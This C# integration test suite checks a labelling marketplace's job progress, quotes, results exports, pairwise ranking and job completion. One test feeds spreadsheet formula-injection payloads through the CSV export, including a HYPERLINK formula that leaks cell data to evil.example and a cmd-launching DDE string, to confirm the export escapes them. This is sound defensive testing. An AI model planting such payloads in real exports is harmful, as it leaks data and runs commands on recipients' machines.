using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Marketplace.Web.Domain;
using Marketplace.Web.Jobs;
using Marketplace.Web.Payments;
using Marketplace.Web.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Options;

namespace Marketplace.Web.Tests;

/// <summary>What a buyer gets back: live progress, the results export, and a job that completes by itself.</summary>
public abstract class JobResultsTests(MarketplaceAppFactory app)
{
    [Fact]
    public async Task Progress_CountsFinalizedItemsLabelsSpendAccuracyAndPace()
    {
        var (buyer, browser) = await app.SignedInAsync(Roles.Buyer);
        var job = await app.ActiveJobAsync(items: 3, gold: 1, redundancy: 2, organizationId: buyer.OrganizationId);
        string[] contributors = [await app.ContributorAsync(), await app.ContributorAsync()];
        foreach (var contributor in contributors)
        {
            for (var i = 0; i < 2; i++)
            {
                await app.LabelAsync(contributor, job.Id, "cat");
            }
        }

        var progress = (await browser.Client.GetFromJsonAsync<JobDetails>($"/api/jobs/{job.Id}", ApiJson.Options))!.Progress;

        var items = await app.WithDbAsync(db => db.Items.AsNoTracking().Where(i => i.JobId == job.Id && !i.IsGold).ToListAsync());
        var finalized = items.Where(i => i.FinalizedAt != null).ToList();
        Assert.Equal(3, progress.Items);
        Assert.Equal(2, finalized.Count); // two contributors, two labels each, redundancy 2: the router fills items before opening new ones
        Assert.Equal(finalized.Count, progress.FinalizedItems);
        Assert.Equal(4, progress.Labels);
        var fee = app.Services.GetRequiredService<IOptions<FeeOptions>>().Value.PlatformFeeBasisPoints;
        Assert.Equal(40 + (long)Math.Round(40m * fee / 10_000m, MidpointRounding.AwayFromZero), progress.SpentMinor);
        Assert.Equal(job.BudgetMinor, progress.BudgetMinor);
        Assert.Equal(finalized.Average(i => i.Confidence!.Value), progress.EstimatedAccuracy!.Value, 6);
        Assert.Equal(progress.SpentMinor / finalized.Sum(i => i.Confidence!.Value), progress.CostPerCorrectAnswerMinor!.Value, 6);
        Assert.Equal(2, progress.LabelsStillNeeded);
        Assert.Equal(4, progress.LabelsPerHour);
        Assert.Equal(app.Clock.GetUtcNow().UtcDateTime.AddMinutes(30), progress.EstimatedCompletion!.Value, TimeSpan.FromSeconds(30));

        // An hour later with no new labels there is no pace to extrapolate.
        app.Clock.Advance(TimeSpan.FromHours(1.5));
        var later = (await browser.Client.GetFromJsonAsync<JobDetails>($"/api/jobs/{job.Id}", ApiJson.Options))!.Progress;
        Assert.Equal(0, later.LabelsPerHour);
        Assert.Null(later.EstimatedCompletion);
    }

    [Fact]
    public async Task Quote_SimulatesTheJobWithTheQualifiedPool_ForCategoricalJobsOnly()
    {
        var (buyer, browser) = await app.SignedInAsync(Roles.Buyer);
        var job = await app.ActiveJobAsync(items: 10, redundancy: 5, targetConfidence: 0.95, organizationId: buyer.OrganizationId);
        var boxes = await app.ActiveJobAsync(items: 10, type: TaskType.BoundingBox, labels: ["car"], organizationId: buyer.OrganizationId);
        await app.ContributorAsync(goldCorrect: 95, goldWrong: 5);

        var quote = (await browser.Client.GetFromJsonAsync<JobDetails>($"/api/jobs/{job.Id}", ApiJson.Options))!.Quote!;

        Assert.True(quote.PoolSize >= 1);
        Assert.InRange(quote.ExpectedLabelsPerItem, 1, 5);
        Assert.Equal((long)Math.Ceiling(quote.ExpectedLabelsPerItem * 10), quote.ExpectedLabels);
        Assert.Equal(quote.ExpectedLabels * job.PayPerLabelMinor, quote.ExpectedCostMinor);
        Assert.InRange(quote.ExpectedAccuracy, 0.5, 1);
        Assert.Equal(quote, (await browser.Client.GetFromJsonAsync<JobDetails>($"/api/jobs/{job.Id}", ApiJson.Options))!.Quote); // seeded: stable
        Assert.Null((await browser.Client.GetFromJsonAsync<JobDetails>($"/api/jobs/{boxes.Id}", ApiJson.Options))!.Quote);
    }

    [Fact]
    public async Task Export_GivesEveryItemItsConsensusAndEveryLabel_WithPseudonymsOnly()
    {
        var (buyer, browser) = await app.SignedInAsync(Roles.Buyer);
        var job = await app.ActiveJobAsync(items: 2, gold: 1, redundancy: 2, organizationId: buyer.OrganizationId);
        var first = await app.ContributorAsync(goldCorrect: 8, goldWrong: 2);
        var second = await app.ContributorAsync(goldCorrect: 9, goldWrong: 1);
        var labelled = await app.LabelAsync(first, job.Id, "dog", TimeSpan.FromSeconds(7));
        Assert.Equal(labelled, await app.LabelAsync(second, job.Id, "dog", TimeSpan.FromSeconds(3)));
        var pseudonyms = await app.WithDbAsync(db => db.ContributorProfiles.Where(p => p.UserId == first || p.UserId == second).ToDictionaryAsync(p => p.UserId, p => p.Pseudonym));
        var items = await app.WithDbAsync(db => db.Items.AsNoTracking().Where(i => i.JobId == job.Id).ToDictionaryAsync(i => i.Id));
        var done = items[labelled];
        var open = items.Values.Single(i => !i.IsGold && i.Id != labelled);

        var jsonl = await browser.Client.GetAsync($"/api/jobs/{job.Id}/results?format=jsonl");
        Assert.Equal(HttpStatusCode.OK, jsonl.StatusCode);
        Assert.Equal("application/jsonl", jsonl.Content.Headers.ContentType!.MediaType);
        Assert.Equal($"results-{job.Id:N}.jsonl", jsonl.Content.Headers.ContentDisposition!.FileName);
        var text = await jsonl.Content.ReadAsStringAsync();
        var lines = text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement).ToDictionary(l => l.GetProperty("item_id").GetString()!);
        Assert.Equal(new[] { done.ExternalId, open.ExternalId }.Order(), lines.Keys.Order()); // gold items are the buyer's own, not results

        var row = lines[done.ExternalId];
        Assert.Equal("dog", row.GetProperty("consensus").GetString());
        Assert.Equal(done.Confidence!.Value, row.GetProperty("confidence").GetDouble(), 6);
        Assert.True(row.GetProperty("finalized").GetBoolean());
        Assert.Equal(2, row.GetProperty("label_count").GetInt32());
        var labels = row.GetProperty("labels").EnumerateArray().ToList();
        Assert.Equal([(pseudonyms[first], "dog"), (pseudonyms[second], "dog")], labels.Select(l => (l.GetProperty("contributor").GetString(), l.GetProperty("answer").GetString())));
        // Time taken is the server's, lease to submit: the clock moved 7 s and 3 s, plus the test's own running time.
        Assert.InRange(labels[0].GetProperty("seconds").GetDouble(), 7, 9);
        Assert.InRange(labels[1].GetProperty("seconds").GetDouble(), 3, 5);

        var empty = lines[open.ExternalId];
        Assert.Equal(JsonValueKind.Null, empty.GetProperty("consensus").ValueKind);
        Assert.False(empty.GetProperty("finalized").GetBoolean());
        Assert.Empty(empty.GetProperty("labels").EnumerateArray());

        var csv = (await browser.Client.GetStringAsync($"/api/jobs/{job.Id}/results?format=csv")).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(string.Join(',', ResultsExport.CsvColumns), csv[0]);
        var confidence = done.Confidence!.Value.ToString("0.######", System.Globalization.CultureInfo.InvariantCulture);
        var doneRows = csv.Where(l => l.StartsWith(done.ExternalId + ",", StringComparison.Ordinal)).ToList();
        Assert.Equal(2, doneRows.Count);
        Assert.Matches($@"^{done.ExternalId},dog,{confidence},true,2,{pseudonyms[first]},dog,[78](\.\d+)?$", doneRows[0]);
        Assert.Matches($@"^{done.ExternalId},dog,{confidence},true,2,{pseudonyms[second]},dog,[34](\.\d+)?$", doneRows[1]);
        Assert.Contains($"{open.ExternalId},,,false,0,,,", csv);
        Assert.Equal(4, csv.Length);

        foreach (var secret in new[] { first, second, items.Values.Single(i => i.IsGold).ExternalId })
        {
            Assert.DoesNotContain(secret, text, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task CsvExport_WritesAnswersASpreadsheetWouldRunAsFormulas_AsText()
    {
        var (buyer, browser) = await app.SignedInAsync(Roles.Buyer);
        string[] attacks = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")", "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1"];
        var job = await app.ActiveJobAsync(items: attacks.Length, type: TaskType.FreeText, redundancy: 1, organizationId: buyer.OrganizationId);
        foreach (var attack in attacks)
        {
            await app.LabelAsync(await app.ContributorAsync(qualifiedFor: [TaskType.FreeText]), job.Id, attack);
        }

        var csv = await browser.Client.GetStringAsync($"/api/jobs/{job.Id}/results?format=csv");
        using var reader = new CsvHelper.CsvReader(new StringReader(csv), System.Globalization.CultureInfo.InvariantCulture);
        var answers = new List<string>();
        await reader.ReadAsync();
        reader.ReadHeader();
        while (await reader.ReadAsync())
        {
            answers.Add(reader.GetField("answer")!);
            Assert.All(Enumerable.Range(0, reader.ColumnCount), i => Assert.DoesNotMatch(@"^[=+\-@\t\r]", reader.GetField(i)!));
        }

        // Each answer is still there, whole, behind the apostrophe that makes a spreadsheet show it as text.
        Assert.Equal(attacks.Select(a => "'" + a).Order(), answers.Order());
    }

    [Fact]
    public async Task Ranking_OfAPairwiseJob_OrdersTheComparedOptionsByBradleyTerry()
    {
        var (buyer, browser) = await app.SignedInAsync(Roles.Buyer);
        (string A, string B)[] pairs = [("reply 1", "reply 2"), ("reply 3", "reply 2"), ("reply 1", "reply 3"), ("reply 4", "reply 1"), ("reply 3", "reply 4")];
        var job = await app.ActiveJobAsync(items: pairs.Length, type: TaskType.Pairwise, redundancy: 2, organizationId: buyer.OrganizationId, payload: i => new { a = pairs[i].A, b = pairs[i].B });

        // Everyone prefers the lower-numbered reply, except one dissent on the first pair.
        for (var c = 0; c < 2; c++)
        {
            var contributor = await app.ContributorAsync([TaskType.Pairwise]);
            for (var n = 0; n < pairs.Length; n++)
            {
                var task = (await app.Arrange().ClaimAsync(contributor, job.Id))!;
                var (a, b) = (task.Payload.GetProperty("a").GetString()!, task.Payload.GetProperty("b").GetString()!);
                var prefer = string.CompareOrdinal(a, b) < 0 ^ (c == 1 && a == "reply 1" && b == "reply 2") ? "A" : "B";
                Assert.True((await app.Arrange().SubmitAsync(contributor, task.AssignmentId, $"\"{prefer}\"")).Succeeded);
            }
        }

        var ranking = (await browser.Client.GetFromJsonAsync<List<Marketplace.Scoring.Aggregation.RankedOption>>($"/api/jobs/{job.Id}/ranking", ApiJson.Options))!;

        Assert.Equal(["reply 1", "reply 2", "reply 3", "reply 4"], ranking.Select(r => r.Option));
        Assert.Equal([1, 2, 3, 4], ranking.Select(r => r.Rank));
        Assert.Equal(20, ranking.Sum(r => r.Comparisons));
        var choices = await app.ActiveJobAsync(items: 1, organizationId: buyer.OrganizationId);
        Assert.Equal(HttpStatusCode.Conflict, (await browser.Client.GetAsync($"/api/jobs/{choices.Id}/ranking")).StatusCode);
    }

    [Fact]
    public async Task Job_CompletesByItself_WhenItsLastItemIsFinalized()
    {
        var job = await app.ActiveJobAsync(items: 2, redundancy: 1);

        await app.LabelAsync(await app.ContributorAsync(), job.Id, "cat");
        Assert.Equal(JobStatus.Active, await StatusAsync(job.Id));
        await app.LabelAsync(await app.ContributorAsync(), job.Id, "dog");

        Assert.Equal(JobStatus.Completed, await StatusAsync(job.Id));
    }

    [Fact]
    public async Task CompletionSweep_CompletesRunningJobsPastTheirDeadline_AndNothingElse()
    {
        var now = app.Clock.GetUtcNow().UtcDateTime;
        var due = await app.ActiveJobAsync(items: 1, deadline: now.AddMinutes(10));
        var paused = await app.ActiveJobAsync(items: 1, deadline: now.AddMinutes(10), status: JobStatus.Paused);
        var later = await app.ActiveJobAsync(items: 1, deadline: now.AddDays(2));
        var funded = await app.ActiveJobAsync(items: 1, deadline: now.AddMinutes(10), status: JobStatus.Funded);

        app.Clock.Advance(TimeSpan.FromMinutes(11));
        await app.WithServiceAsync<JobLifecycle, int>(c => c.CompleteDueAsync(CancellationToken.None));
        Assert.Equal(0, await app.WithServiceAsync<JobLifecycle, int>(c => c.CompleteDueAsync(CancellationToken.None))); // safe to run twice

        Assert.Equal(JobStatus.Completed, await StatusAsync(due.Id));
        Assert.Equal(JobStatus.Completed, await StatusAsync(paused.Id));
        Assert.Equal(JobStatus.Active, await StatusAsync(later.Id));
        Assert.Equal(JobStatus.Funded, await StatusAsync(funded.Id)); // not launched: nothing to complete
    }

    private Task<JobStatus> StatusAsync(Guid jobId) => app.WithDbAsync(db => db.Jobs.Where(j => j.Id == jobId).Select(j => j.Status).SingleAsync());
}

public sealed class SqliteJobResultsTests(SqliteAppFactory app) : JobResultsTests(app), IClassFixture<SqliteAppFactory>;

[Collection(PostgresCollection.Name)]
public sealed class PostgresJobResultsTests(PostgresAppFactory app) : JobResultsTests(app);
